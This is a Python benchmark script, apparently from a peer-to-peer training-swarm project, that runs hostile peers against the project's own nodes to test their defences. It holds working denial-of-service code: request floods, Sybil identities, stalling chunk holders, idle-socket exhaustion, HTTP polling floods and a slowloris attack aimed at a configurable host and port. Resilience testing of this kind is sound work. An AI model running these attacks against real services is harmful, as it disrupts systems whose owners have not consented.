"""One hostile peer (or a crowd of them) for bench/attacks.py and the adversary tests.

Each attack is what a stranger could do with ``docs/protocol.md`` and our own
code: the attackers here are built from the node's classes, talking to the
swarm over real libp2p and HTTP. Run as its own process (bench/attacks.py
starts it under SCHED_IDLE: on a real swarm the attacker's CPU is its own
machine's, not the victims'). Prints one JSON line per ``--report-every-s``
with what it got (prompts, bans, requests answered), and runs until killed.

    python bench/attacker.py work_flood --bootstrap ADDR --data-dir DIR
"""

from __future__ import annotations

import argparse
import json
import logging
import sys
from pathlib import Path

import trio

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from fakes import claim_everything  # noqa: E402

from echo_node.config import NodeConfig  # noqa: E402
from echo_node.node import Node  # noqa: E402
from protocol.broadcast.engine import BroadcastConfig, BroadcastEngine  # noqa: E402
from protocol.broadcast.store import VersionStore  # noqa: E402
from protocol.identity import load_or_create  # noqa: E402
from protocol.messages import ErrorReply  # noqa: E402
from protocol.rpc import RequestFailed, request  # noqa: E402
from protocol.wire import chunk, work  # noqa: E402
from protocol.wire.chunk import ChunkRequest  # noqa: E402
from protocol.wire.work import WorkAssignment, WorkRequest  # noqa: E402

LOOPBACK = "/ip4/127.0.0.1/tcp/0"
counts: dict[str, int] = {}


def count(what: str, n: int = 1) -> None:
    counts[what] = counts.get(what, 0) + n


def make_node(args: argparse.Namespace, i: int) -> Node:
    config = NodeConfig(
        bootstrap=[args.bootstrap],
        listen=[LOOPBACK],
        data_dir=args.data_dir / f"identity{i}",
        mdns=False,
        upnp=False,
        name=f"attacker{i}",
    )
    return Node(config, load_or_create(config.identity_path))


async def ask(node: Node, max_prompts: int = 4) -> None:
    """One work request, never answered; counts what came back."""
    try:
        reply = await request(
            node.swarm.host,
            node.learner,
            work.PROTOCOL,
            lambda stream: work.ask(
                stream,
                WorkRequest(node.job_id, max_prompts, -1, "torch", "f32", node.config.name, "public", "cpu", 0, 0.0),
            ),
            timeout_s=60,
        )
    except RequestFailed:
        count("failed")
        await trio.sleep(1)  # the learner refused the stream (rate limit) or left
        return
    if isinstance(reply, WorkAssignment):
        count("prompts", len(reply.prompts))
    elif isinstance(reply, ErrorReply):
        count(f"error:{reply.code}")
        await trio.sleep(1)
    else:
        count("no_work")


async def work_flood(args: argparse.Namespace) -> None:
    """One identity keeping ``--in-flight`` work requests open, answering none."""
    node = make_node(args, 0)
    async with node.joined(), trio.open_nursery() as nursery:
        for _ in range(args.in_flight):
            nursery.start_soon(_forever, ask, node)
        await report_forever(args)


async def sybil_requests(args: argparse.Namespace) -> None:
    """``--identities`` fresh identities, each asking once a second, answering none."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_sybil, make_node(args, i))
        await report_forever(args)


async def _sybil(node: Node) -> None:
    async with node.joined(), trio.open_nursery() as nursery:
        while True:
            nursery.start_soon(ask, node)
            await trio.sleep(1)


async def unanswered_prompts(args: argparse.Namespace) -> None:
    """One identity taking prompts one request at a time and never answering."""
    node = make_node(args, 0)
    async with node.joined(), trio.open_nursery() as nursery:
        nursery.start_soon(_forever, ask, node)
        await report_forever(args)


async def idle_members(args: argparse.Namespace) -> None:
    """The control, not an attack: ``--identities`` peers that join the swarm
    (bootstrap, DHT, the learner) and then ask for nothing. What they cost the
    honest nodes is what any peer's presence costs on this machine."""
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_member, make_node(args, i))
        await report_forever(args)


async def _member(node: Node) -> None:
    async with node.joined():
        count("joined")
        await trio.sleep_forever()


async def _forever(fn, *args) -> None:  # type: ignore[no-untyped-def]
    while True:
        await fn(*args)


# --- broadcast -------------------------------------------------------------------


async def stalling_chunk_peers(args: argparse.Namespace) -> None:
    """``--identities`` peers that announce every chunk and never send one."""
    await _fake_holders(args, _stall)


async def busy_flapping(args: argparse.Namespace) -> None:
    """``--identities`` peers that announce every chunk, answer every request
    with ``busy``, and re-announce themselves ready after each refusal."""
    await _fake_holders(args, _busy)


async def _stall(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    if isinstance(req, ChunkRequest):
        count("stalled")
        await trio.sleep_forever()
    await _serve_manifest(engine, stream, req)


async def _busy(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    if isinstance(req, ChunkRequest):
        count("busy")
        await chunk.send_reply(stream, ErrorReply(chunk.BUSY, "fetch it later or from another peer"))
        engine._poke_local()  # "ready again": a fresh Have to every neighbour
        return
    await _serve_manifest(engine, stream, req)


async def _serve_manifest(engine: BroadcastEngine, stream, req) -> None:  # type: ignore[no-untyped-def]
    await type(engine.server).answer(engine.server, stream, req)


async def _fake_holders(args: argparse.Namespace, answer) -> None:  # type: ignore[no-untyped-def]
    async with trio.open_nursery() as nursery:
        for i in range(args.identities):
            nursery.start_soon(_fake_holder, make_node(args, i), answer)
        await report_forever(args)


async def _fake_holder(node: Node, answer) -> None:  # type: ignore[no-untyped-def]
    """A broadcast peer that follows versions (so it knows each manifest) but
    downloads nothing, announces every chunk as soon as it knows the version,
    and answers chunk requests with ``answer``."""
    async with node.joined() as swarm, trio.open_nursery() as nursery:
        learner_id = node.learner.to_base58()
        store = VersionStore(node.config.weights_dir(node.job_id), learner_id=learner_id, keep=2)
        engine = BroadcastEngine(
            swarm, store, job_id=node.job_id, learner_id=learner_id, is_seed=False, config=BroadcastConfig()
        )

        async def download_nothing() -> None:  # it knows each manifest; that is all it needs
            await trio.sleep_forever()

        engine._my_have = lambda: claim_everything(engine)  # type: ignore[method-assign]
        engine._download_loop = download_nothing  # type: ignore[method-assign]
        engine.server.answer = lambda stream, req: answer(engine, stream, req)  # type: ignore[method-assign]
        await nursery.start(engine.run)
        await trio.sleep_forever()


# --- sockets and HTTP ---------------------------------------------------------------


async def idle_sockets(args: argparse.Namespace) -> None:
    """``--sockets`` TCP connections to ``--target host:port`` that send nothing,
    each reopened as soon as the target closes it."""
    host, port = args.target.rsplit(":", 1)

    async def hold() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream(host, int(port))
            except OSError:
                count("refused")
                await trio.sleep(0.5)
                continue
            count("opened")
            async with stream:
                try:
                    while await stream.receive_some(65536):
                        pass  # whatever the target says; we never answer
                except trio.BrokenResourceError:
                    pass
            count("closed_by_target")

    async with trio.open_nursery() as nursery:
        for _ in range(args.sockets):
            nursery.start_soon(hold)
        await report_forever(args)


async def api_pollers(args: argparse.Namespace) -> None:
    """``--clients`` HTTP clients fetching the status API's pages flat out."""
    host, port = args.target.rsplit(":", 1)
    paths = ["/api/status", "/api/peers", "/metrics", "/api/history", "/api/ledger"]

    async def poll(i: int) -> None:
        n = i
        while True:
            path = paths[n % len(paths)]
            n += 1
            try:
                stream = await trio.open_tcp_stream(host, int(port))
                async with stream:
                    await stream.send_all(
                        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n\r\n".encode()
                    )
                    head = await stream.receive_some(65536)
                    while await stream.receive_some(65536):
                        pass
                count(head.split(b" ", 2)[1].decode() if head else "empty")
            except (OSError, trio.BrokenResourceError):
                count("failed")
                await trio.sleep(0.1)

    async with trio.open_nursery() as nursery:
        for i in range(args.clients):
            nursery.start_soon(poll, i)
        await report_forever(args)


async def api_slowloris(args: argparse.Namespace) -> None:
    """``--sockets`` HTTP connections, each sending its request a byte every few
    seconds (and reconnecting when the server gives up on it)."""
    host, port = args.target.rsplit(":", 1)
    request_bytes = f"GET /api/status HTTP/1.1\r\nHost: {host}:{port}\r\nX-Pad: {'a' * 200}\r\n".encode()

    async def drip() -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream(host, int(port))
                count("connections")
                async with stream:
                    for b in request_bytes:
                        await stream.send_all(bytes([b]))
                        await trio.sleep(args.drip_s)
            except (OSError, trio.BrokenResourceError):
                count("dropped")
                await trio.sleep(0.2)

    async with trio.open_nursery() as nursery:
        for _ in range(args.sockets):
            nursery.start_soon(drip)
        await report_forever(args)


async def report_forever(args: argparse.Namespace) -> None:
    while True:
        await trio.sleep(args.report_every_s)
        print(json.dumps(counts), flush=True)


ATTACKS = {
    f.__name__: f
    for f in (
        work_flood,
        sybil_requests,
        unanswered_prompts,
        stalling_chunk_peers,
        busy_flapping,
        idle_sockets,
        api_pollers,
        api_slowloris,
        idle_members,
    )
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--bootstrap", default="", help="bootstrap multiaddr (peer attacks)")
    parser.add_argument("--target", default="", help="host:port (socket and HTTP attacks)")
    parser.add_argument("--data-dir", type=Path, default=Path("attacker"))
    parser.add_argument("--identities", type=int, default=8)
    parser.add_argument("--in-flight", type=int, default=16)
    parser.add_argument("--sockets", type=int, default=300)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--drip-s", type=float, default=2.0)
    parser.add_argument("--report-every-s", type=float, default=5.0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING)
    try:
        trio.run(ATTACKS[args.attack], args)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
